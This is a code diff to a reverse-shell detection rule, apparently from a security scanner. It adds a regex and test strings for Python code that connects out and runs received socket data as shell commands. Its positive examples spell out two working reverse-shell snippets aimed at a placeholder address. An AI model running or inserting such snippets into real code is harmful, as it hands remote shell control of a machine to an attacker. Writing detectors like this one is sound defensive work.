@@ -39,15 +39,17 @@ export const reverseShellRules: Rule[] = [
     title: "Python socket shell",
     category: "reverse-shell",
     severity: "critical",
-    message: "Python duplicates a socket onto stdin/stdout or spawns a pty shell: a reverse shell.",
+    message: "Python duplicates a socket onto stdin/stdout, spawns a pty shell, or runs what it receives on a socket as shell commands: a reverse shell.",
     fix: "Remove it.",
     fileKinds: ["python", ...SCRIPTS_PROSE_CONFIG],
     context: "payload",
-    keywords: ["dup2", "pty.spawn"],
-    pattern: /\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)|\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']/g,
+    keywords: ["dup2", "pty.spawn", "recv"],
+    reach: 600,
+    // The third form: connect out, then a loop that hands each received line to the shell.
+    pattern: /\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)|\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\.connect\s*\(\s*\(\s*[^()\n]{1,80},\s*\d+\s*\)\s*\)[^]{0,300}?\.recv\s*\([^]{0,200}?\b(?:subprocess\.(?:run|call|check_output|getoutput|Popen)|os\.(?:system|popen))\s*\(/g,
     examples: {
-      positive: ["s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"],
-      negative: ["os.dup2(log.fileno(), sys.stderr.fileno())"],
+      positive: ["s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')", "=== scripts/p.py\ns.connect((\"203.0.113.7\", 8443))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.run(cmd, shell=True, capture_output=True)\n    s.send(out.stdout)"],
+      negative: ["os.dup2(log.fileno(), sys.stderr.fileno())", "=== scripts/probe.py\ns.connect((host, 80))\nbanner = s.recv(1024)\nprint(banner)"],
     },
   },
   {
